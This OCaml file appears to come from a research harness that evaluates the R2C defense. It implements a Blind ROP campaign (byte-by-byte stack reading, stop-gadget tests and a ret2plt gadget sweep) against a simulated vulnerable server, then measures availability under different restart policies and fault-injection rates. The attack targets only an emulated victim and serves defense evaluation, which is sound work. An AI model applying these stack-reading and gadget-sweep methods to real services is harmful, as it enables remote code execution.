open R2c_machine
module Pool = R2c_runtime.Pool
module Policy = R2c_runtime.Policy
module Vulnapp = R2c_workloads.Vulnapp
module Payload = R2c_attacks.Payload

(* The victim: the vulnerable server under full R2C with post-return BTRA
   checks (Section 7.3) and without ASLR — the non-PIE worker-respawn
   scenario Blind ROP was built for. Booby-trap detections during stack
   reading are the signal the Reactive policy listens to. *)
let victim_cfg = { (R2c_core.Dconfig.full_checked) with R2c_core.Dconfig.aslr = false }

let build_victim ~seed = Vulnapp.build ~seed victim_cfg

let legit_payload = "GET /status"

(* ------------------------------------------------------------------ *)
(* A Blind-ROP campaign against a worker pool (Section 4.1 adapted to
   the supervision layer).

   The attacker talks to the pool like any client — probes are requests
   with [~retries:0], and the only feedback is served / connection died /
   connection refused. Stack reading extends a filler one byte at a time,
   keeping bytes the server survives; a learned 8-byte word that decodes
   into the text segment is a return-address candidate (BROP's "plausible
   code pointer" heuristic — BTRA decoys satisfy it too, by design), and
   each candidate gets a ret2plt gadget sweep. Two give-up rules make the
   attacker honest: a previously-survivable filler that starts crashing
   again and again means the layout churned under the attacker's feet
   (re-randomization — BROP's published kryptonite), and a stretch of
   refused connections means the fleet is down and there is nothing to
   learn from. *)

type attack_cfg = {
  probe_budget : int;
  churn_limit : int;  (** consecutive failed revalidations before giving up *)
  stall_limit : int;  (** consecutive refused probes before giving up *)
  sweep_budget : int;  (** gadget addresses swept per RA candidate *)
}

let default_attack =
  { probe_budget = 4000; churn_limit = 3; stall_limit = 20; sweep_budget = 4000 }

type attack_report = { probes : int; note : string; compromised : bool }

let blind_rop_pool ~pool ~legit ~(cfg : attack_cfg) () =
  let compromised () =
    List.exists (fun (rdi, _) -> rdi = Vulnapp.marker) (Pool.sensitive_log pool)
  in
  let probes = ref 0 in
  let stalls = ref 0 in
  let churn = ref 0 in
  let finished = ref None in
  let give_up note = if !finished = None then finished := Some note in
  let probe payload =
    legit ();
    incr probes;
    match Pool.submit ~retries:0 pool payload with
    | Pool.Served { lines; _ } ->
        stalls := 0;
        `Survived lines
    | Pool.Rejected { lines; _ } ->
        stalls := 0;
        `Crashed lines
    | Pool.Dropped ->
        incr stalls;
        if !stalls >= cfg.stall_limit then give_up "fleet down, nothing to probe";
        `Stall
  in
  let budget_ok () =
    if !probes >= cfg.probe_budget then begin
      give_up "probe budget exhausted";
      false
    end
    else !finished = None
  in
  let filler = Buffer.create 128 in
  (* Likely bytes first (zero padding, canonical high bytes), then all. *)
  let guesses = [ 0x00; 0x41; 0xff; 0x7f; 0xfe; 0x55; 0x40 ] @ List.init 256 Fun.id in
  (* A byte the server already accepted should still be accepted: when it
     stops being, the layout has changed under the attacker's feet —
     re-randomization, BROP's published kryptonite. *)
  let revalidate () =
    if Buffer.length filler = 0 then true
    else
      match probe (Buffer.contents filler) with
      | `Survived _ ->
          churn := 0;
          true
      | `Crashed _ ->
          incr churn;
          if !churn >= cfg.churn_limit then
            give_up "layout churn: learned bytes no longer hold";
          false
      | `Stall -> false
  in
  let learn_byte () =
    let rec try_guesses = function
      | [] ->
          (* Every value crashed at this depth: the oracle is lying —
             nothing stable left to learn. *)
          give_up "stack reading wedged: no survivable byte"
      | g :: tl -> (
          if budget_ok () then
            match probe (Buffer.contents filler ^ String.make 1 (Char.chr g)) with
            | `Survived _ -> Buffer.add_char filler (Char.chr g)
            | `Crashed _ -> try_guesses tl
            | `Stall -> try_guesses (g :: tl))
    in
    try_guesses guesses
  in
  (* Stop-gadget test at a word boundary: a ret into a harmless PLT entry
     produces one extra response line iff the word is the return address
     (both probes crash; the information is in the output seen first). *)
  let stop_plt = Payload.plt_addr_of "print_int" in
  let ra_here () =
    let base = Buffer.contents filler in
    match probe (base ^ Payload.le64 stop_plt) with
    | `Survived _ | `Stall -> false
    | `Crashed with_stop -> (
        match probe (base ^ Payload.fill 8) with
        | `Survived _ | `Stall -> false
        | `Crashed with_garbage -> with_stop > with_garbage)
  in
  (* ret2plt: [pop rdi-style gadget][marker][sensitive] written over the
     located return address; the first-gadget address is brute-forced
     through the region after the PLT — architectural knowledge for a
     non-PIE binary. *)
  let sweep () =
    let base = Buffer.contents filler in
    let sensitive = Payload.plt_addr_of "sensitive" in
    let start = Addr.text_base + (16 * List.length Image.builtin_names) in
    let addr = ref start in
    let quiet = ref 0 in
    while budget_ok () && (not (compromised ())) && !addr < start + cfg.sweep_budget do
      (* Sweeping blind is pointless if the layout churned mid-sweep:
         recheck the learned filler every so often, and notice when the
         chains stop crashing altogether — a chain that no longer lands on
         a return address only tickles padding. *)
      if (!addr - start) mod 24 = 23 && not (revalidate ()) then incr addr
      else begin
        let chain =
          Payload.le64 !addr ^ Payload.le64 Vulnapp.marker ^ Payload.le64 sensitive
        in
        match probe (base ^ chain) with
        | `Crashed _ ->
            quiet := 0;
            incr addr
        | `Survived _ ->
            incr quiet;
            if !quiet >= 40 then
              give_up "sweep chains stopped crashing: layout churn";
            incr addr
        | `Stall -> ()
      end
    done;
    if !finished = None && not (compromised ()) then
      give_up "gadget sweep exhausted without a working chain"
  in
  let ra_found = ref false in
  while (not !ra_found) && !finished = None && not (compromised ()) do
    if budget_ok () then
      if Buffer.length filler >= 512 then
        give_up "return address not located within 512 bytes"
      else if revalidate () then
        if Buffer.length filler mod 8 = 0 && ra_here () then ra_found := true
        else learn_byte ()
  done;
  if !ra_found then sweep ();
  let note =
    if compromised () then "compromised: sensitive(marker) reached"
    else match !finished with Some n -> n | None -> "done"
  in
  { probes = !probes; note; compromised = compromised () }

(* ------------------------------------------------------------------ *)
(* Availability under attack, per restart policy. *)

type run_result = {
  policy : Policy.t;
  stats : Pool.stats;
  clock : int;
  legit_served : int;
  legit_total : int;
  availability : float;  (** legit traffic only *)
  probes : int;
  attack_note : string;
  compromised : bool;
  escalated : bool;
}

let pool_cfg ?(inject = Inject.zero) ~seed policy =
  {
    Pool.default_config with
    Pool.policy;
    seed;
    (* MaxRequestsPerChild = 1: every request is served by a fresh fork,
       so probe feedback depends only on the payload — the uniform oracle
       Blind ROP needs (and real pre-fork servers provide). *)
    requests_per_child = 1;
    inject;
  }

let run_policy ?(seed = 7) ?(legit_total = 400) ?(attack = default_attack) policy =
  let pool =
    Pool.create ~cfg:(pool_cfg ~seed policy) ~build:build_victim
      ~break_sym:Vulnapp.break_symbol ()
  in
  let legit_sent = ref 0 in
  let legit_served = ref 0 in
  let legit () =
    if !legit_sent < legit_total then begin
      incr legit_sent;
      match Pool.submit pool legit_payload with
      | Pool.Served _ -> incr legit_served
      | Pool.Rejected _ | Pool.Dropped -> ()
    end
  in
  let report = blind_rop_pool ~pool ~legit ~cfg:attack () in
  (* The campaign is over (aborted or compromised); the service keeps
     serving — post-attack traffic shows where the fleet settled. *)
  while !legit_sent < legit_total do
    legit ()
  done;
  {
    policy;
    stats = Pool.stats pool;
    clock = Pool.clock pool;
    legit_served = !legit_served;
    legit_total;
    availability = float_of_int !legit_served /. float_of_int (max 1 legit_total);
    probes = report.probes;
    attack_note = report.note;
    compromised = report.compromised;
    escalated = Pool.escalated pool;
  }

let policies =
  [
    Policy.Same_image;
    Policy.Backoff Policy.default_backoff;
    Policy.Rerandomize;
    Policy.Reactive Policy.Escalate_rerandomize;
    Policy.Reactive (Policy.Escalate_mvee { variants = 3 });
  ]

let run ?seed ?legit_total ?attack () =
  List.map (fun p -> run_policy ?seed ?legit_total ?attack p) policies

let gate ~equivalent results =
  Gate.failed
    (( "zero-rate-injector",
       "the rate-0 injector run differs from the bare run",
       equivalent )
    :: List.filter_map
         (fun r ->
           match r.policy with
           | Policy.Rerandomize | Policy.Reactive _ ->
               Some
                 ( "policy-holds",
                   Policy.to_string r.policy ^ " was compromised",
                   not r.compromised )
           | Policy.Same_image | Policy.Backoff _ -> None)
         results)

(* ------------------------------------------------------------------ *)
(* Fault-injection sweep: legit traffic only, increasing chaos rates.
   Measures what the supervision layer buys when the faults are not an
   attacker but plain bad luck (bitflips, corrupted loads, lost fuel). *)

type sweep_row = {
  label : string;
  rates : Inject.rates;
  sweep_policy : Policy.t;
  sweep_stats : Pool.stats;
  sweep_availability : float;
}

let sweep_points =
  [
    ("none", Inject.zero);
    ("light", { Inject.bitflip = 0.00002; load_corrupt = 0.00002; spurious_fault = 0.00001; fuel_cut = 0.0 });
    ("heavy", { Inject.bitflip = 0.0002; load_corrupt = 0.0002; spurious_fault = 0.0001; fuel_cut = 0.05 });
  ]

let injection_sweep ?(seed = 11) ?(requests = 120) () =
  List.concat_map
    (fun policy ->
      List.map
        (fun (label, rates) ->
          let pool =
            Pool.create
              ~cfg:(pool_cfg ~inject:rates ~seed policy)
              ~build:build_victim ~break_sym:Vulnapp.break_symbol ()
          in
          let served = ref 0 in
          for _ = 1 to requests do
            match Pool.submit pool legit_payload with
            | Pool.Served _ -> incr served
            | Pool.Rejected _ | Pool.Dropped -> ()
          done;
          {
            label;
            rates;
            sweep_policy = policy;
            sweep_stats = Pool.stats pool;
            sweep_availability = float_of_int !served /. float_of_int requests;
          })
        sweep_points)
    [ Policy.Same_image; Policy.Backoff Policy.default_backoff; Policy.Rerandomize ]

(* ------------------------------------------------------------------ *)
(* Rate-zero equivalence: an attached injector with all rates at 0.0 must
   not perturb execution at all — same outcome, same instruction count,
   same cycle count, bit for bit. The chaos harness is only trustworthy
   if observing the system (at rate 0) does not change it. *)

let baseline_equivalence ?(seed = 5) () =
  let run inject =
    let proc = Process.start ?inject ~fuel:5_000_000 (build_victim ~seed) in
    let outcome = Process.run proc in
    (outcome, Process.insns proc, Process.cycles proc)
  in
  let bare = run None in
  let zeroed = run (Some (Inject.create ~rates:Inject.zero ~seed:99 ())) in
  bare = zeroed

let results ~sweep ~equivalent runs =
  let open Results in
  let kcycles fmt = function Some c -> Float (fmt, c) | None -> Missing in
  [
    table "policies" ~title:"Availability under Blind ROP, by restart policy"
      [
        left "policy" "policy"; col "availability" "avail"; col "served" "served";
        col "crashes" "crashes"; col "detections" "detect"; col "rerandomizations" "rerand";
        col "mttr_cycles" "mttr"; col "detection_to_response_cycles" "det->resp";
        col "probes" "probes"; left "campaign_end" "campaign end";
      ]
      (List.map
         (fun r ->
           [
             Str (Policy.to_string r.policy);
             pct r.availability;
             Str (Printf.sprintf "%d/%d" r.legit_served r.legit_total);
             Int r.stats.Pool.crashes;
             Int r.stats.Pool.detections;
             Int r.stats.Pool.rerandomizations;
             kcycles (fun m -> Printf.sprintf "%.0fk" (m /. 1000.)) (Pool.mttr r.stats);
             kcycles
               (fun d -> Printf.sprintf "%dk" (int_of_float d / 1000))
               (Option.map float_of_int (Pool.detection_to_response r.stats));
             Int r.probes;
             Str (if r.compromised then "COMPROMISED" else r.attack_note);
           ])
         runs);
    table "injection_sweep" ~title:"Fault-injection sweep (legit traffic only)"
      [
        left "policy" "policy"; left "chaos" "chaos"; col "availability" "avail";
        col "crashes" "crashes"; col "timeouts" "timeouts"; col "restarts" "restarts";
        col "quarantines" "quarantine";
      ]
      (List.map
         (fun r ->
           [
             Str (Policy.to_string r.sweep_policy);
             Str r.label;
             pct r.sweep_availability;
             Int r.sweep_stats.Pool.crashes;
             Int r.sweep_stats.Pool.timeouts;
             Int r.sweep_stats.Pool.restarts;
             Int r.sweep_stats.Pool.quarantines;
           ])
         sweep);
    field "zero_rate_equivalent"
      ~label:"rate-0 injector run identical to the bare run (outcome, insns, cycles)"
      (Bool equivalent);
  ]
